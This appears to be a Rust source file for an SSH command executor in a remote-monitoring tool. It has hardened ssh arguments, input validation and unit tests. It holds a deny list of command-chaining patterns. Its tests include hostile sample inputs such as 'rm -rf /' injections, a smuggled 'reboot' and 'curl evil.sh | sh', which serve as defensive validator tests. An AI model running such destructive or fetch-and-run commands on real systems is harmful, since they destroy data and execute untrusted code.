//! SSH command execution
//!
//! Runs collection commands on remote hosts via the external OpenSSH
//! client, spawned as a subprocess with a fixed, hardened argument set:
//! strict host-key checking, a bounded connect timeout, and keepalives so
//! a hung session is detected instead of blocking a cycle forever.
//!
//! The transport is modeled as the [`CommandExecutor`] capability trait,
//! so everything downstream of it (parsing, filtering, orchestration) is
//! testable against canned output without a network.

use std::process::Stdio;
use std::time::Duration;

use async_trait::async_trait;
use tokio::process::Command;

use crate::config::RemoteTarget;
use crate::error::{MonitorError, MonitorResult};
use crate::validate::{validate_file_path, validate_hostname, validate_username};

/// `ssh -o ConnectTimeout` value in seconds
pub const CONNECT_TIMEOUT_SECS: u32 = 10;

/// `ssh -o ServerAliveInterval` value in seconds
const SERVER_ALIVE_INTERVAL_SECS: u32 = 30;

/// `ssh -o ServerAliveCountMax` value
const SERVER_ALIVE_COUNT_MAX: u32 = 3;

/// Default overall deadline for one remote command (connect + execution)
pub const DEFAULT_EXEC_TIMEOUT_SECS: u64 = 30;

/// Injection patterns rejected immediately before execution.
///
/// Command chaining into a dangerous binary, shell substitution, and
/// embedded line breaks. The builder never produces any of these; the
/// check exists for callers that bypass the builder.
const DENY_PATTERNS: &[&str] = &[
    "$(",
    "`",
    "\n",
    "\r",
    ";rm",
    ";wget",
    ";curl",
    ";sh",
    ";bash",
    "&&rm",
    "&&wget",
    "&&curl",
    "&&sh",
    "&&bash",
    "||rm",
    "||wget",
    "||curl",
    "||sh",
    "||bash",
];

/// Errors from the `ssh` subprocess
#[derive(Debug, thiserror::Error)]
pub enum TransportError {
    /// The subprocess could not be spawned at all
    #[error("failed to spawn ssh: {0}")]
    Spawn(#[source] std::io::Error),

    /// The subprocess exited non-zero; stderr is captured for diagnosis
    #[error("ssh exited with {status}: {stderr}")]
    CommandFailed {
        /// Exit status as reported by the OS
        status: std::process::ExitStatus,
        /// Trimmed stderr text
        stderr: String,
    },

    /// The overall deadline elapsed before the subprocess finished
    #[error("ssh command timed out after {0}s")]
    Timeout(u64),

    /// Remote output was not valid UTF-8
    #[error("ssh produced non-UTF-8 output: {0}")]
    InvalidUtf8(#[source] std::string::FromUtf8Error),
}

/// Capability interface over the SSH transport.
///
/// The engine only ever calls this; tests substitute a fake returning
/// canned text.
#[async_trait]
pub trait CommandExecutor: Send + Sync {
    /// Runs `command` on the target host and returns raw stdout,
    /// unaltered — interpreting its structure is the parser's job.
    async fn execute(&self, target: &RemoteTarget, command: &str) -> MonitorResult<String>;
}

/// Rejects commands containing shell substitution markers, embedded line
/// breaks, or chaining into a deny-listed binary.
///
/// This runs on every command immediately before the subprocess spawns,
/// on top of the builder's fixed templates.
///
/// # Errors
///
/// Returns [`MonitorError::CommandRejected`] naming the offending
/// pattern, or noting an empty command.
pub fn validate_command(command: &str) -> MonitorResult<()> {
    if command.is_empty() {
        return Err(MonitorError::CommandRejected("command is empty".into()));
    }
    let lowered = command.to_lowercase();
    for pattern in DENY_PATTERNS {
        if lowered.contains(pattern) {
            return Err(MonitorError::CommandRejected(format!(
                "contains dangerous pattern {pattern:?}"
            )));
        }
    }
    Ok(())
}

/// Expands a leading `~/` and environment references in a key path.
///
/// Undefined environment variables leave the path tilde-expanded only —
/// `ssh` will then fail on the literal path, which is diagnosable,
/// rather than on an empty string.
fn expand_key_path(path: &str) -> String {
    shellexpand::full(path).map_or_else(
        |_| shellexpand::tilde(path).into_owned(),
        std::borrow::Cow::into_owned,
    )
}

/// Builds the full `ssh` argument vector for one command on one target.
///
/// Jump-host arguments are prepended only when `proxy_jump` is non-empty
/// and itself passes hostname validation.
fn build_ssh_args(target: &RemoteTarget, command: &str) -> MonitorResult<Vec<String>> {
    let mut args = Vec::with_capacity(16);

    if let Some(jump) = target.proxy_jump.as_deref()
        && !jump.is_empty()
    {
        validate_hostname(jump)?;
        args.push("-J".to_string());
        args.push(format!("{}@{}", target.user, jump));
    }

    args.push("-i".to_string());
    args.push(expand_key_path(&target.ssh_key));
    args.push("-p".to_string());
    args.push(target.port.to_string());
    args.push(format!("{}@{}", target.user, target.host));
    for option in [
        format!("ConnectTimeout={CONNECT_TIMEOUT_SECS}"),
        format!("ServerAliveInterval={SERVER_ALIVE_INTERVAL_SECS}"),
        format!("ServerAliveCountMax={SERVER_ALIVE_COUNT_MAX}"),
        "StrictHostKeyChecking=yes".to_string(),
    ] {
        args.push("-o".to_string());
        args.push(option);
    }
    args.push(command.to_string());

    Ok(args)
}

/// Executor that shells out to the external OpenSSH client
#[derive(Debug, Clone)]
pub struct OpenSshExecutor {
    exec_timeout: Duration,
}

impl OpenSshExecutor {
    /// Creates an executor with the default overall deadline
    #[must_use]
    pub const fn new() -> Self {
        Self {
            exec_timeout: Duration::from_secs(DEFAULT_EXEC_TIMEOUT_SECS),
        }
    }

    /// Creates an executor with a custom overall deadline
    #[must_use]
    pub const fn with_timeout(exec_timeout: Duration) -> Self {
        Self { exec_timeout }
    }
}

impl Default for OpenSshExecutor {
    fn default() -> Self {
        Self::new()
    }
}

#[async_trait]
impl CommandExecutor for OpenSshExecutor {
    async fn execute(&self, target: &RemoteTarget, command: &str) -> MonitorResult<String> {
        // Re-validate the parameters that end up in the argument vector.
        // Nothing is spawned unless all of these pass.
        validate_username(&target.user)?;
        validate_hostname(&target.host)?;
        validate_file_path(&target.ssh_key)?;
        validate_command(command)?;

        let args = build_ssh_args(target, command)?;

        tracing::debug!(
            host = %target.host,
            port = target.port,
            "executing remote command via ssh"
        );

        let mut cmd = Command::new("ssh");
        cmd.args(&args)
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .kill_on_drop(true);

        let output = match tokio::time::timeout(self.exec_timeout, cmd.output()).await {
            Ok(Ok(output)) => output,
            Ok(Err(err)) => return Err(TransportError::Spawn(err).into()),
            Err(_) => {
                return Err(TransportError::Timeout(self.exec_timeout.as_secs()).into());
            }
        };

        if !output.status.success() {
            let stderr = String::from_utf8_lossy(&output.stderr).trim().to_string();
            tracing::debug!(host = %target.host, %stderr, "ssh exited non-zero");
            return Err(TransportError::CommandFailed {
                status: output.status,
                stderr,
            }
            .into());
        }

        String::from_utf8(output.stdout).map_err(|e| TransportError::InvalidUtf8(e).into())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::ProcessFilterSpec;

    fn target() -> RemoteTarget {
        RemoteTarget {
            host: "web-01.example.com".into(),
            user: "deploy".into(),
            port: 22,
            ssh_key: "/home/deploy/.ssh/id_ed25519".into(),
            proxy_jump: None,
            process_filters: ProcessFilterSpec::default(),
        }
    }

    #[test]
    fn test_validate_command_rejects_substitution() {
        assert!(validate_command("echo `rm -rf /`").is_err());
        assert!(validate_command("echo $(reboot)").is_err());
        assert!(validate_command("uptime\nreboot").is_err());
        assert!(validate_command("uptime\rreboot").is_err());
    }

    #[test]
    fn test_validate_command_rejects_chained_binaries() {
        for cmd in [
            "uptime;rm -rf /",
            "true&&curl evil.sh | sh",
            "true||bash -c x",
            "uptime;WGET evil",
        ] {
            assert!(validate_command(cmd).is_err(), "{cmd:?} should be rejected");
        }
    }

    #[test]
    fn test_validate_command_allows_probe_shapes() {
        assert!(validate_command("ps -u deploy -o pid,user --no-headers").is_ok());
        assert!(validate_command("free -m | awk 'NR==2{print $3}'").is_ok());
        assert!(validate_command("").is_err());
    }

    #[test]
    fn test_build_ssh_args_hardening() {
        let args = build_ssh_args(&target(), "uptime").unwrap();
        assert_eq!(args[0], "-i");
        assert!(args.contains(&"deploy@web-01.example.com".to_string()));
        assert!(args.contains(&"StrictHostKeyChecking=yes".to_string()));
        assert!(args.contains(&format!("ConnectTimeout={CONNECT_TIMEOUT_SECS}")));
        assert!(args.contains(&"ServerAliveInterval=30".to_string()));
        assert!(args.contains(&"ServerAliveCountMax=3".to_string()));
        // The command is always the final argument
        assert_eq!(args.last().unwrap(), "uptime");
    }

    #[test]
    fn test_build_ssh_args_prepends_jump_host() {
        let mut t = target();
        t.proxy_jump = Some("bastion.example.com".into());
        let args = build_ssh_args(&t, "uptime").unwrap();
        assert_eq!(args[0], "-J");
        assert_eq!(args[1], "deploy@bastion.example.com");
    }

    #[test]
    fn test_build_ssh_args_rejects_bad_jump_host() {
        let mut t = target();
        t.proxy_jump = Some("bastion;reboot".into());
        assert!(build_ssh_args(&t, "uptime").is_err());
    }

    #[test]
    fn test_expand_key_path_tilde() {
        let expanded = expand_key_path("~/.ssh/id_rsa");
        assert!(!expanded.starts_with('~'));
        assert!(expanded.ends_with(".ssh/id_rsa"));
        // Absolute paths pass through untouched
        assert_eq!(expand_key_path("/etc/keys/a"), "/etc/keys/a");
    }

    #[tokio::test]
    async fn test_execute_rejects_invalid_target_before_spawn() {
        let mut t = target();
        t.host = "web 01".into();
        let executor = OpenSshExecutor::new();
        let err = executor.execute(&t, "uptime").await.unwrap_err();
        assert!(matches!(err, MonitorError::Validation(_)));
    }

    #[tokio::test]
    async fn test_execute_rejects_dangerous_command_before_spawn() {
        let executor = OpenSshExecutor::new();
        let err = executor
            .execute(&target(), "uptime`rm -rf /`")
            .await
            .unwrap_err();
        assert!(matches!(err, MonitorError::CommandRejected(_)));
    }
}
